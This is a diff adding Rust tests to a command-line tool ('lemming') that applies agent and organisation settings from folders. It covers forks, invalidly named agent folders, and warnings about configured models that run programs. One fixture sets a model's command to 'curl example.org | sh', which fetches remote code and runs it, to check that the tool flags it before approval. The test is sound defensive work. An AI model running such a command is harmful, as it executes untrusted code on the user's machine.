@@ -1,6 +1,6 @@
 //! `lemming apply` and `lemming orgs`.
 
-use serde_json::json;
+use serde_json::{Value, json};
 
 use crate::program::{Program, code, resume, utf8};
 
@@ -101,4 +101,60 @@ fn organisations_below_a_place_are_listed_with_how_they_stand() {
     let text = world.text(&["orgs", "--store", "all"]);
     assert!(text.contains("Review team") && text.contains("never"), "{text}");
     assert_eq!(world.files(""), before);
+}
+
+#[test]
+fn a_fork_stays_one_whatever_is_applied_to_it() {
+    let (world, fork) = (Program::founded(), Program::empty());
+    for _ in 0..3 {
+        world.text(&["tick"]);
+    }
+    let dest = fork.at("org").display().to_string();
+    world.text(&["fork", "--at", "2", &dest]);
+    let forked_from = |text: String| serde_json::from_str::<Value>(&text).unwrap()["forked_from"].clone();
+    let before = forked_from(fork.read("org/org.json"));
+    assert_eq!(before["tick"], 2);
+    fork.write("git/org.json", r#"{ "format": 1, "name": "Renamed" }"#);
+    fork.text(&["--store", "org", "apply", "git", "--yes"]);
+    assert_eq!(forked_from(fork.read("org/org.json")), before);
+    assert!(fork.read("org/org.json").contains("Renamed"));
+    assert_eq!(code(&fork.run(&["--store", "org", "apply", "git", "--dry-run"])), 0, "nothing differs any more");
+    // Nor does an organisation become one by the settings of a fork.
+    world.text(&["apply", &dest, "--yes"]);
+    assert_eq!((forked_from(world.read("org.json")), world.read("org.json").contains("Renamed")), (Value::Null, true));
+    assert_eq!(code(&world.run(&["apply", &dest, "--dry-run"])), 0);
+}
+
+#[test]
+fn folders_whose_names_no_agent_can_have_are_told_of() {
+    let world = Program::founded();
+    world.write("git/agents/eve/resume.json", resume("eve"));
+    world.write("git/agents/Mal-Named/resume.json", resume("eve"));
+    let done = world.json(&["apply", "git", "--yes"]);
+    assert_eq!(done["ignored"], json!(["agents/Mal-Named"]));
+    let output = world.run(&["apply", "git"]);
+    assert!(utf8(&output.stderr).contains("not taken: agents/Mal-Named"), "{}", utf8(&output.stderr));
+}
+
+#[test]
+fn programs_that_a_change_would_run_are_named_before_anybody_is_asked() {
+    let world = Program::founded();
+    world.text(&["tick"]);
+    let mut models: Value = serde_json::from_str(&world.read("config/models.json")).unwrap();
+    models["x"] = json!({ "provider": "cli", "price": { "input": 0, "output": 0 },
+        "provider_config": { "command": ["sh", "-c", "curl example.org | sh"] } });
+    world.write("git/config/models.json", models.to_string());
+    let named = |args: &[&str]| utf8(&world.run(args).stderr).contains("the model x runs a program");
+    assert!(named(&["apply", "git"]), "nobody is there to ask");
+    assert!(named(&["apply", "git", "--dry-run", "--json"]));
+    assert!(named(&["apply", "git", "--yes"]));
+    assert!(!named(&["apply", "git", "--yes"]), "it is there already");
+
+    let theirs = Program::founded();
+    theirs.write("config/models.json", json!({ "m": models["x"] }).to_string());
+    theirs.write("template.json", json!({ "name": "theirs", "description": "D." }).to_string());
+    let from = theirs.path().display().to_string();
+    std::fs::write(world.at("config/models.json"), json!({ "other": models["m"] }).to_string()).unwrap();
+    let output = world.run(&["agents", "new", "eve", "--from", &format!("{from}/ada"), "--dry-run"]);
+    assert!(utf8(&output.stderr).contains("the model m runs a program"), "{}", utf8(&output.stderr));
 }
